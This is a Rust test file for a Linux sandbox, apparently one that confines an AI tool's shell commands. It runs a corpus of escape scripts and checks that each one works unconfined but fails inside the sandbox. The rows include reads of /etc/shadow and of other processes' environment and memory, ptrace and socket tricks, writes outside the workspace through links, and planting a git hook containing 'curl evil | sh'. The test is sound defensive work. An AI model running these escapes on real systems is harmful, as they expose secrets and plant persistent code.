//! The escape corpus: every way out of the sandbox we know of, one row
//! each, run confined as tool-bash's default sandbox confines commands
//! (workspace-write, no network, the protected paths read-only, a secret
//! directory hidden). A row's script prints `ESCAPED` if its escape worked;
//! each is also run unconfined first, where it must work, so a row that
//! fails for some other reason (a missing program, a wrong path) is caught
//! rather than passing for the sandbox's sake.

#![cfg(target_os = "linux")]

use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};

use amplifier_sandbox::{lifeline, support, Policy, Sandbox};

struct Escape {
    name: &'static str,
    /// `{ws}` the workspace, `{out}` a directory outside it, `{secret}` a
    /// hidden directory, `{victim}` a process outside the sandbox,
    /// `{socket}` a Unix socket listening outside the workspace,
    /// `{abstract}` an abstract socket's name, `{port}` a TCP listener.
    script: &'static str,
    /// Whether the script must work unconfined here: false where it needs
    /// what this machine may not have (io_uring may be switched off).
    control: bool,
}

const ESCAPES: &[Escape] = &[
    Escape { name: "read /etc/shadow", script: "head -c1 /etc/shadow >/dev/null && echo ESCAPED", control: true },
    Escape { name: "read a hidden directory", script: "cat {secret}/key && echo ESCAPED", control: true },
    Escape {
        name: "read another process's environment",
        script: "head -c1 /proc/{victim}/environ >/dev/null && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "read another process's memory",
        script: "perl -e 'open(M, \"<\", \"/proc/{victim}/mem\") or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "trace another process",
        script: "perl -e 'exit 1 unless syscall(101, 16, {victim}, 0, 0) == 0; print \"ESCAPED\\n\"'",
        control: cfg!(target_arch = "x86_64"),
    },
    Escape { name: "signal another process", script: "kill -CONT {victim} && echo ESCAPED", control: true },
    Escape { name: "TCP", script: "exec 3<>/dev/tcp/127.0.0.1/{port} && echo ESCAPED", control: true },
    Escape {
        name: "UDP",
        script: "perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0) or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "IPv6",
        script: "perl -MSocket -e 'socket(S, AF_INET6, SOCK_STREAM, 0) or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "netlink",
        script: "perl -e 'socket(S, 16, 3, 0) or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "a Unix socket outside the workspace",
        script: "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"{socket}\") or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "an abstract Unix socket made outside",
        script: "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"\\0{abstract}\") or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "io_uring",
        script: "perl -e '$p = \"\\0\" x 120; exit 1 if syscall(425, 8, $p) < 0; print \"ESCAPED\\n\"'",
        control: false,
    },
    Escape {
        name: "a new session",
        script: "perl -MPOSIX -e 'exit 1 if POSIX::setsid() < 0; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape {
        name: "a new process group",
        script: "perl -e 'setpgrp(0, 0) or exit 1; print \"ESCAPED\\n\"'",
        control: true,
    },
    Escape { name: "write outside the workspace", script: "echo x > {out}/planted && echo ESCAPED", control: true },
    Escape {
        name: "write outside through a symbolic link",
        script: "ln -s {out} {ws}/link && echo x > {ws}/link/via-link && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "write outside through a hard link",
        script: "ln {out}/victim.txt {ws}/hard && echo x >> {ws}/hard && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "plant a git hook",
        script: "echo 'curl evil | sh' > {ws}/.git/hooks/pre-commit && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "point git at other hooks",
        script: "printf '[core]\\n\\thooksPath = /tmp\\n' >> {ws}/.git/config && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "rewrite amplifier's project settings",
        script: "echo 'plan: evil.yaml' > {ws}/.amplifier/settings.yaml && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "move the protected hooks away",
        script: "mv {ws}/.git/hooks {ws}/.git/old && mkdir {ws}/.git/hooks && echo ESCAPED",
        control: true,
    },
    Escape {
        name: "unmount the protection in a new namespace",
        script: "unshare -Urm sh -c 'umount {ws}/.git/hooks; echo x > {ws}/.git/hooks/post-commit' && echo ESCAPED",
        control: true,
    },
    // No control run: unconfined, it would mount over the host's directory.
    Escape {
        name: "mount a file system",
        script: "mkdir -p {ws}/mnt && mount -t tmpfs none {ws}/mnt && echo ESCAPED",
        control: false,
    },
    Escape {
        name: "keep a capability",
        script: "grep -q '^CapEff:[[:space:]]*0*[1-9a-f]' /proc/self/status && echo ESCAPED",
        control: true,
    },
];

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// What each escape aims at, outside the sandbox.
struct Targets {
    ws: tempfile::TempDir,
    out: tempfile::TempDir,
    secret: tempfile::TempDir,
    victim: Child,
    _socket: UnixListener,
    _abstract: UnixListener,
    _tcp: std::net::TcpListener,
    vars: Vec<(&'static str, String)>,
}

impl Targets {
    fn new() -> Targets {
        let ws = tempfile::tempdir().unwrap();
        for dir in [".git/hooks", ".git/objects", ".amplifier"] {
            std::fs::create_dir_all(ws.path().join(dir)).unwrap();
        }
        std::fs::write(ws.path().join(".git/config"), "[core]\n").unwrap();
        let out = tempfile::tempdir().unwrap();
        std::fs::write(out.path().join("victim.txt"), "").unwrap();
        let secret = tempfile::tempdir().unwrap();
        std::fs::write(secret.path().join("key"), "hunter2").unwrap();
        let victim = Command::new("sleep").arg("120").stdin(Stdio::null()).spawn().unwrap();
        let socket_path = out.path().join("service.sock");
        let socket = UnixListener::bind(&socket_path).unwrap();
        let name = format!("amplifier-escape-{}", std::process::id());
        let address =
            <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(name.as_bytes())
                .unwrap();
        let abstract_socket = UnixListener::bind_addr(&address).unwrap();
        let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let vars = vec![
            ("{ws}", ws.path().display().to_string()),
            ("{out}", out.path().display().to_string()),
            ("{secret}", secret.path().display().to_string()),
            ("{victim}", victim.id().to_string()),
            ("{socket}", socket_path.display().to_string()),
            ("{abstract}", name),
            ("{port}", tcp.local_addr().unwrap().port().to_string()),
        ];
        Targets { ws, out, secret, victim, _socket: socket, _abstract: abstract_socket, _tcp: tcp, vars }
    }

    fn script(&self, escape: &Escape) -> String {
        self.vars.iter().fold(escape.script.to_owned(), |script, (name, value)| script.replace(name, value))
    }

    /// tool-bash's default sandbox, with the secret directory hidden.
    fn sandbox(&self) -> Sandbox {
        let ws = self.ws.path();
        Sandbox::new(Policy {
            writable: vec![ws.to_path_buf()],
            hidden: vec![self.secret.path().to_path_buf()],
            read_only: [".amplifier", ".git/hooks", ".git/config"].map(|path| ws.join(path)).to_vec(),
            ..Policy::default()
        })
        .expect("the sandbox")
    }

    /// Puts the targets back as they were, after a control run changed them.
    fn reset(&self) {
        let ws = self.ws.path();
        let _ = std::fs::remove_file(ws.join(".git/hooks/pre-commit"));
        let _ = std::fs::remove_file(ws.join(".git/hooks/post-commit"));
        let _ = std::fs::remove_dir(ws.join(".git/hooks"));
        if ws.join(".git/old").exists() {
            let _ = std::fs::remove_dir_all(ws.join(".git/old"));
        }
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        let _ = std::fs::remove_file(ws.join(".amplifier/settings.yaml"));
        for leftover in ["link", "hard"] {
            let _ = std::fs::remove_file(ws.join(leftover));
        }
        let _ = std::fs::remove_file(self.out.path().join("planted"));
        let _ = std::fs::remove_file(self.out.path().join("via-link"));
        std::fs::write(self.out.path().join("victim.txt"), "").unwrap();
    }
}

impl Drop for Targets {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
    }
}

fn run(script: &str, dir: &Path, sandbox: Option<&Sandbox>) -> Output {
    use std::os::unix::process::CommandExt;
    let mut command = Command::new("bash");
    command.arg("-c").arg(script).current_dir(dir).stdin(Stdio::null()).process_group(0);
    lifeline::guard(&mut command);
    if let Some(sandbox) = sandbox {
        sandbox.confine(&mut command);
    }
    command.output().expect("bash starts")
}

fn escaped(output: &Output) -> bool {
    String::from_utf8_lossy(&output.stdout).contains("ESCAPED")
}

#[test]
fn no_escape_in_the_corpus_works_from_the_sandbox() {
    assert!(support().is_enforceable(), "this test needs Landlock and seccomp: {}", support().describe());
    let targets = Targets::new();
    let sandbox = targets.sandbox();
    assert!(sandbox.keeps_read_only(), "this machine allows mount namespaces");
    let mut escapes = Vec::new();
    for escape in ESCAPES {
        let script = targets.script(escape);
        // Root reads /etc/shadow and traces anything; others may not (Yama
        // limits tracing to descendants on many systems).
        let root_only =
            ["read /etc/shadow", "keep a capability", "trace another process", "read another process's memory"];
        let must_work = escape.control && (is_root() || !root_only.contains(&escape.name));
        if must_work {
            targets.reset();
            let unconfined = run(&script, targets.ws.path(), None);
            assert!(
                escaped(&unconfined),
                "`{}` does not work even unconfined, so it tests nothing: {}",
                escape.name,
                String::from_utf8_lossy(&unconfined.stderr)
            );
        }
        targets.reset();
        let confined = run(&script, targets.ws.path(), Some(&sandbox));
        if escaped(&confined) {
            escapes.push(escape.name);
        }
    }
    assert!(escapes.is_empty(), "escaped the sandbox: {escapes:?}");
    assert!(!targets.out.path().join("planted").exists());
    assert!(!targets.ws.path().join(".git/hooks/pre-commit").exists());
}
